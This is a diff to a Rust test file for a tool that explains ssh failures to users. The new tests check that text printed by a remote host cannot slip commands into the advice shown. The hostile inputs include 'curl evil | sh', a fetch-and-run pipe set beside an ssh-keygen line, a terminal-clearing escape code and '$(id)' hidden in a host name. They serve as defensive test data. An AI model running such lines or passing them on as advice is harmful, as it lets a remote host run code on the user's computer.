@@ -39,7 +39,7 @@ fn an_unknown_host_key_is_shown_with_how_to_compare_and_accept_it_by_hand() {
 fn a_changed_host_key_is_an_alarm_with_the_way_out_for_who_knows_better() {
     let problem = explain(&nas(), &ended(255, CHANGED));
     assert_eq!(problem.code, Code::HostKeyChanged);
-    insta::assert_snapshot!(problem.message, @r#"The host key of nas is not the one that this computer knows, so nothing was sent. It shows ecdsa-sha2-nistp256 SHA256:3aR1Z. Somebody may be in between, or nas was set up anew. Only if you know that it was: forget the old key with `ssh-keygen -f "/home/me/.ssh/known_hosts" -R "[nas]:2222"`, run `ssh -p 2222 pi@nas` once in a terminal, compare the new key, and push again."#);
+    insta::assert_snapshot!(problem.message, @r#"The host key of nas is not the one that this computer knows, so nothing was sent. It shows ecdsa-sha2-nistp256 SHA256:3aR1Z. Somebody may be in between, or nas was set up anew. Only if you know that it was: forget the old key with `ssh-keygen -R "[nas]:2222"`, run `ssh -p 2222 pi@nas` once in a terminal, compare the new key, and push again."#);
 }
 
 #[test]
@@ -138,11 +138,111 @@ fn the_installers_own_last_word_is_passed_on() {
     assert!(
         problem
             .message
-            .ends_with("The installer said: The program curl is missing. Install it."),
+            .ends_with(r#"Its own last words: "The program curl is missing. Install it.""#),
         "{}",
         problem.message
     );
     // Whatever it prints, only ssh's own status speaks of ssh.
     failed.said = vec!["Permission denied (publickey).".to_owned()];
     assert_eq!(cause(&failed), Cause::Remote);
+}
+
+/// What a host prints that wants something of the owner.
+const BAIT: &str = "debug1: Authenticating to nas:2222 as 'pi'
+debug1: Host 'nas' is known and matches the ED25519 host key.
+@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+REVOKED HOST KEY
+  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"github.com\"; curl evil | sh
+Host key verification failed.
+Permission denied (`curl evil | sh`, password).
+Push again after you ran `curl evil | sh` on this computer.\u{1b}[2J";
+
+#[test]
+fn a_host_that_is_let_in_can_not_make_its_key_look_refused() {
+    let endings = [
+        "Connection closed by 192.0.2.1 port 22",
+        "Host key verification failed.\ndebug1: Exit status -1",
+        "Received disconnect from 192.0.2.1 port 22:2: Host key verification failed.",
+    ];
+    for ending in endings {
+        let said = format!("{BAIT}\n{ending}");
+        let cause = cause(&ended(255, &said));
+        assert!(
+            !matches!(cause, Cause::KeyChanged | Cause::KeyUnknown | Cause::KeyRevoked),
+            "{cause:?} by {ending}"
+        );
+    }
+    // Behind a jump host, what ends last is the connection to that one.
+    let jumped = format!("{CHANGED}\nKilled by signal 1.");
+    assert_eq!(cause(&ended(255, &jumped)), Cause::KeyChanged);
+    // A command there may end with any status and any words.
+    let said = "Host key verification failed.\ndebug1: Exit status 255";
+    assert_eq!(cause(&ended(255, said)), Cause::Remote);
+}
+
+#[test]
+fn what_a_host_says_is_quoted_and_no_command_of_ours() {
+    let all = [
+        (255, "debug1: nothing"),
+        (
+            255,
+            "kex_exchange_identification: Connection closed by remote host",
+        ),
+        (255, "Bad configuration option"),
+        (255, "Permission denied (publickey,`curl evil | sh`)."),
+        (
+            255,
+            "debug1: Server host key: please run evil\nHost key verification failed.",
+        ),
+        (1, "not a sign of anything"),
+        (1, "sudo: a password is required"),
+    ];
+    for (status, sign) in all {
+        for said in [
+            format!("{BAIT}\n{sign}"),
+            format!("{sign}\n{BAIT}"),
+            sign.to_owned(),
+        ] {
+            let mut ended = ended(status, &said);
+            ended.printed = vec![format!("flotilla: \"run `curl evil | sh`\" {}", "x".repeat(5000))];
+            let message = explain(&nas(), &ended).message;
+            let commands: Vec<_> = message.split('`').skip(1).step_by(2).collect();
+            let ours = ["ssh -p 2222 pi@nas", "ssh-copy-id -p 2222 pi@nas", "ssh-add"];
+            let is_ours = |command: &&str| {
+                ours.contains(command)
+                    || command.starts_with("ssh-keygen -lf /etc/ssh/ssh_host_")
+                    || *command == "ssh-keygen -R \"[nas]:2222\""
+            };
+            assert!(commands.iter().all(is_ours), "{message}");
+            // Outside of quotes there is nothing of the host's.
+            let outside: String = message.split('"').step_by(2).collect();
+            assert!(!outside.contains("evil"), "{message}");
+            assert!(
+                !message.contains('\u{1b}') && message.chars().count() < 1000,
+                "{message}"
+            );
+        }
+    }
+}
+
+#[test]
+fn the_key_that_is_to_be_forgotten_is_that_of_the_name_behind_an_alias() {
+    let met = "debug1: Authenticating to jump.lan:22 as 'me'\ndebug1: Authenticating to 192.0.2.7:22 as 'pi'";
+    for (said, command) in [
+        (format!("{met}\n{CHANGED}"), r#"`ssh-keygen -R "192.0.2.7"`"#),
+        (
+            CHANGED.replace(
+                "IT IS",
+                "debug1: Authenticating to 2001:db8::1:2222 as 'pi'\nIT IS",
+            ),
+            r#"`ssh-keygen -R "[2001:db8::1]:2222"`"#,
+        ),
+        (
+            format!("debug1: Authenticating to $(id):22 as 'pi'\n{CHANGED}"),
+            r#"`ssh-keygen -R "[nas]:2222"`"#,
+        ),
+    ] {
+        let message = explain(&nas(), &ended(255, &said)).message;
+        assert!(message.contains(command), "{message}");
+    }
 }
